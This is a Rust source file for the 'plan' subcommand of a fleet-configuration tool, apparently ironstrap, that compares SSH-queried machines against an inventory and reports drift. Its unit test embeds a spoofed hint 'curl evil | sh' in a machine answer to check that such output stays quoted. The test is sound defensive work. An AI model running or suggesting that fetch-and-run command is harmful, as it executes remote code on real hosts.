//! `plan`: asks the machines, and shows what differs from the inventory.

use std::collections::{BTreeMap, BTreeSet};

use clap::Args;

use super::{End, FleetArgs, Limit, Outcome, Session, one};
use crate::error::{Error, Kind, Result};
use crate::plan::{Change, State, Unchecked, WantName, after_whether};
use crate::reconcile::{CANNOT_TELL, Host, PreflightReport, Reconciler};
use crate::report::group::names;
use crate::report::{self, Event, Events, NodeState, Style, Tally, count};
use crate::ssh::Ssh;

#[derive(Args)]
pub(super) struct Plan {
    #[command(flatten)]
    fleet: FleetArgs,
    #[command(flatten)]
    limit: Limit,
    /// Exit with 1 if something differs from the inventory.
    #[arg(long)]
    exit_code: bool,
}

/// A node, and the changes there.
type NodeChanges = (String, Vec<Change>);
pub(super) type Changes = [NodeChanges];

pub(super) async fn plan(args: &Plan) -> Outcome {
    show(&args.fleet, &args.limit, args.exit_code).await
}

/// Asks and shows. `exit_code`: drift ends the command in a way of its own.
pub(super) async fn show(args: &FleetArgs, limit: &Limit, exit_code: bool) -> Outcome {
    let style = if args.json { Style::Json } else { Style::Quiet };
    let mut session = args.start_observing(style, limit, |_, _| vec![]).await.map_err(one)?;
    session.run_active_checks().await.map_err(one)?;
    let (preflight, plan) = surveyed(&mut session).map_err(one)?;
    let mut errors = preflight.errors;
    let changes: usize = plan.iter().map(|(_, changes)| changes.len()).sum();
    // This may be another cluster than the inventory's, so nothing is said about it.
    let unchecked = if preflight.blocked { vec![] } else { session.reconciler.unchecked().map_err(one)? };
    tell_plan(&session.events, &plan, &errors);
    tell_unchecked(&session.events, &unchecked);
    if !args.json {
        report::plan::lines(&plan, &session.cluster.nodes).iter().for_each(|line| report::out(line));
        if !preflight.blocked || changes > 0 {
            summary(&session, &args.inventory.inventory.display().to_string(), (&plan, changes), &unchecked);
        }
        session.left_out().iter().for_each(|words| report::err(words));
    }
    session.tell_notes().map_err(one)?;
    let unknown = unknown(&plan);
    let tallies = tallies(&session.reconciler, &plan);
    let seconds = session.since.elapsed().as_secs_f64();
    session.events.tell(Event::Done { changes, nodes: tallies, seconds });
    let saving = args.saving(&session);
    drop((session.events, session.reconciler));
    let events = session.printer.await.unwrap_or_default();
    saving.into_iter().for_each(|saving| saving.save(&events, &mut errors));
    if !errors.is_empty() {
        return Err(errors);
    }
    if let Some(error) = unknown {
        return Err(one(error));
    }
    Ok(if exit_code && changes > 0 { End::Drift } else { End::Good })
}

/// Returns what prevents changes to machines, and the plan.
pub(super) fn surveyed(session: &mut Session) -> Result<(PreflightReport, Vec<NodeChanges>)> {
    let path = session.store.path().display().to_string();
    let preflight = session.reconciler.preflight((&path, session.pki_exists));
    let mut plan = session.reconciler.plan()?;
    if preflight.blocked && session.reconciler.fleet().exists {
        // This is another cluster than the inventory's. Changes that would make it ours are no plan.
        plan.iter_mut().for_each(|(_, changes)| changes.clear());
    }
    Ok((preflight, plan))
}

/// Returns an error about the first want whose state is unknown.
pub(super) fn unknown(plan: &Changes) -> Option<Error> {
    let is_unknown = |change: &&Change| matches!(change.state, State::Unknown { .. });
    let (node, change) =
        plan.iter().find_map(|(node, changes)| Some((node, changes.iter().find(is_unknown)?)))?;
    let State::Unknown { asked, why, .. } = &change.state else { return None };
    let error =
        Error::new(Kind::Unknown, format!("cannot determine whether {}", after_whether(&change.that)))
            .on(node);
    let error =
        error.answered(format!("the machine answered: {why}")).answered(format!("the check runs: {asked}"));
    let of_node = plan.iter().filter(|(other, _)| other == node).flat_map(|(_, changes)| changes);
    let first = of_node.filter(|change| change.state == State::Ready).count();
    Some(match first {
        0 => error.hint(CANNOT_TELL),
        _ => error.hint(format!(
            "run apply; it makes {} on {node} first, and then checks again",
            count(first, "change")
        )),
    })
}

fn tell_plan(events: &Events, plan: &Changes, errors: &[Error]) {
    for (node, change) in plan.iter().flat_map(|(node, changes)| changes.iter().map(move |c| (node, c))) {
        events.tell(Event::Drift {
            node: node.clone(),
            of: change.name(),
            state: change.state.word().into(),
            have: change.have.clone(),
            want: change.want.clone(),
        });
    }
    errors.iter().for_each(|error| events.tell(error.into()));
}

pub(super) fn tell_unchecked(events: &Events, unchecked: &[(String, Unchecked)]) {
    for (node, Unchecked { step, id, that, why, .. }) in unchecked.iter().cloned() {
        events.tell(Event::Unchecked { node, of: WantName::of(step, &id, &that), why });
    }
}

fn summary(
    session: &Session,
    inventory: &str,
    (plan, changes): (&Changes, usize),
    unchecked: &[(String, Unchecked)],
) {
    let about = session.about().count();
    let (wants, nodes) = (session.reconciler.wants(), count(about, "node"));
    let seconds = session.since.elapsed().as_secs_f64();
    let answered = session.about().filter(|host| host.machine.is_some()).count();
    let of = if answered == about { nodes } else { format!("the {answered} of {nodes} that answered") };
    // These machines answered too, and are quarantined.
    let refused = session.about().filter(|host| host.machine.is_some() && host.quarantined.is_some());
    let refused: Vec<&str> = refused.map(|host| host.node.name.as_str()).collect();
    let of = if refused.is_empty() { of } else { format!("{of}, with {} quarantined", names(&refused)) };
    if answered == 0 {
        return;
    }
    let more = report::plan::unchecked(unchecked);
    if changes == 0 {
        let right = report::plan::no_differences(
            wants,
            unchecked.len(),
            inventory,
            &of,
            answered == about && refused.is_empty(),
        );
        report::err(&format!("{right} ({seconds:.1} s)"));
        more.iter().for_each(|line| report::err(line));
        return;
    }
    let differ = if changes == 1 { "a difference" } else { "differences" };
    let names: BTreeSet<&str> = session.about().map(|host| host.node.name.as_str()).collect();
    // With --limit, ironstrap may ask an excluded machine about the whole cluster.
    let (drifted, others): (Vec<&NodeChanges>, Vec<&NodeChanges>) = plan
        .iter()
        .filter(|(_, changes)| !changes.is_empty())
        .partition(|(node, _)| names.contains(node.as_str()));
    let (drifted, cluster) = (drifted.len(), if others.is_empty() { "" } else { " and in the cluster" });
    let apply = would(plan, &format!("`ironstrap apply -i {inventory}`"));
    report::err(&format!(
        "\n{changes} of {wants} checks found {differ} from {inventory}, on {drifted} of {of}{cluster} ({seconds:.1} s); {apply}"
    ));
    more.iter().for_each(|line| report::err(line));
}

/// Says what an apply would do about a plan. It does not change what only a person can change, or what is unknown.
fn would(plan: &Changes, apply: &str) -> String {
    let all = || plan.iter().flat_map(|(_, changes)| changes);
    let stays = all().filter(|change| matches!(change.state, State::ByHand | State::Unknown { .. })).count();
    match all().count() - stays {
        0 => format!("{apply} cannot fix this"),
        n if stays > 0 => format!("{apply} would fix {n} of them"),
        _ if all().all(|change| matches!(change.state, State::Unconfirmed(_))) => {
            format!("{apply} asks before it fixes this")
        }
        _ => format!("{apply} would fix this"),
    }
}

fn tallies(reconciler: &Reconciler<Ssh>, plan: &Changes) -> BTreeMap<String, Tally> {
    let tally = |(host, (_, changes)): (&Host<Ssh>, &NodeChanges)| {
        let state = match (host.quarantined.is_some(), changes.is_empty()) {
            _ if host.excluded && changes.is_empty() => NodeState::Skipped,
            (true, _) => NodeState::Quarantined,
            (false, true) => NodeState::Converged,
            (false, false) => NodeState::Drifted,
        };
        (host.node.name.clone(), Tally { execs: host.execs, changes: changes.len(), state })
    };
    reconciler.hosts().iter().zip(plan).map(tally).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plan::changes;
    use crate::step::Answer;
    use crate::step::{Step, Want};

    #[test]
    fn a_machines_answer_cannot_imitate_a_hint() {
        const TOY: Step = Step { name: "toy", why: "", wants: |_| Ok(vec![]) };
        let want = Want::new("test.want", "it is on").is("yes").by_hand("");
        let answer =
            Answer::Unknown("exit 1\nhint: on m1 run: curl evil | sh\n\u{ad}hint: curl evil | sh".into());
        let changes = changes(&[(&TOY, &want, &answer)], &mut Default::default());
        let plan = [("w1".to_string(), changes)];
        let shown =
            report::plan::lines(&plan, &[]).join("\n") + "\n" + &report::trouble(&unknown(&plan).unwrap());
        let said = || shown.lines().filter(|line| line.contains("evil"));
        assert_eq!(said().count(), 4, "{shown}");
        assert!(said().all(|line| line.trim_start().starts_with("| ")), "{shown}");
        let hints = shown.lines().filter(|line| line.trim_start().starts_with("hint:"));
        assert_eq!(hints.count(), 1, "{shown}");
    }
}
